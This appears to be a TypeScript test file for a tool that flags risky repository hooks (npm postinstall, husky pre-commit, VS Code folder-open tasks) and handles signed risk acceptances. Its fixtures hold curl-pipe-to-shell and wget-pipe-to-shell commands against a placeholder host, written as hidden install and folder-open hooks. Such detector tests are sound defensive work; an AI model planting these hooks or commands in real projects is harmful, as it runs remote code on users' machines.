import assert from 'node:assert/strict';
import { analyseRepository } from '../../server/src/artifacts/analysis/repository/analyse-repository.js';
import type { RepositoryAnalyser } from '../../server/src/artifacts/package-analyser.js';
import { failed, inEnglish, ok } from '../../server/src/model/index.js';
import { judgeOf, judgeRepository, REPOSITORY_FOLDER, treeOf, type RepositoryTexts } from '../support/repository.js';
import { NOW } from '../support/subjects.js';

const FILES: RepositoryTexts = {
  'package.json': { name: 'task', scripts: { postinstall: 'node setup.js' } },
  'setup.js': `require('child_process').exec('curl https://a.example.invalid/x | sh');`,
};

async function digestOf(files: RepositoryTexts): Promise<string> {
  const { hooks } = await judgeRepository(files);
  return hooks[0]?.subject.hook?.digest ?? '';
}

function tasksWith(command: string): RepositoryTexts {
  const tasks = [{ label: 'env', command, runOptions: { runOn: 'folderOpen' } }];
  return { '.vscode/tasks.json': { tasks } };
}

function accepting(digest: string): RepositoryTexts {
  const entry = { package: `package.json#postinstall@${digest}`, rule: 'download-and-run' };
  return { 'package-risk.json': { accept: [{ ...entry, reason: 'We serve it.', expires: '2027-01-01' }] } };
}

describe('judging repositories', () => {
  it('says of each hook what it does, at its own place, with the files that it starts as evidence', async () => {
    const { hooks, level } = await judgeRepository(FILES);
    const [{ subject, findings } = { subject: undefined, findings: [] }] = hooks;
    assert.equal(level, 'critical');
    assert.equal(inEnglish(subject?.hook?.label ?? ''), 'The script postinstall');
    assert.deepEqual(
      findings.map(({ message, evidence }) => [message, evidence[0]?.file]),
      [['The script postinstall downloads something and runs it when dependencies are installed here', 'setup.js']],
    );
  });

  it('takes an acceptance for what was accepted, as long as nothing of that changes', async () => {
    const accepted = { ...FILES, ...accepting(await digestOf(FILES)) };
    const { hooks, level } = await judgeRepository(accepted, true);
    assert.equal(level, 'none');
    assert.deepEqual(
      hooks.flatMap((one) => one.accepted.map(({ reason }) => reason)),
      ['We serve it.'],
    );
    const changed = { ...accepted, 'setup.js': `${String(FILES['setup.js'])}\n` };
    assert.equal((await judgeRepository(changed, true)).level, 'critical');
  });

  it('tells what stands in commands, and what was not looked into, where code breaks the analysis', async () => {
    const files = {
      '.husky/pre-commit': 'node tools/slow.js\n',
      'tools/slow.js': `require('child_process').exec('curl https://a.example.invalid/x | sh');`,
      ...tasksWith('wget -qO- https://a.example.invalid | sh'),
    };
    const analyser: RepositoryAnalyser = {
      analyseRepository: (_, depth) =>
        Promise.resolve(
          depth === 'code'
            ? failed('timeout', 'The analysis took more than 30 s and was given up.')
            : ok(
                analyseRepository(treeOf(files), () => false),
                NOW,
              ),
        ),
    };
    const judge = judgeOf(files, analyser);
    const ref = { folder: REPOSITORY_FOLDER, trusted: false };
    const { hooks, problems } = await judge.judge(ref, new AbortController().signal);
    assert.deepEqual(
      hooks.map(({ level, subject }) => `${level} ${subject.name}`),
      ['critical .vscode/tasks.json#env', 'none .husky/pre-commit#hook'],
    );
    assert.deepEqual(problems.map(inEnglish), [
      'The analysis took more than 30 s and was given up.',
      '.husky/pre-commit starts code that takes too long to follow',
    ]);
  });

  it('lets no repository speak for itself that is not trusted, and says so', async () => {
    const accepted = { ...FILES, ...accepting(await digestOf(FILES)) };
    const { level, notes } = await judgeRepository(accepted);
    assert.equal(level, 'critical');
    assert.deepEqual(notes.map(inEnglish), ['package-risk.json is not used, because this project is not trusted.']);
  });
});
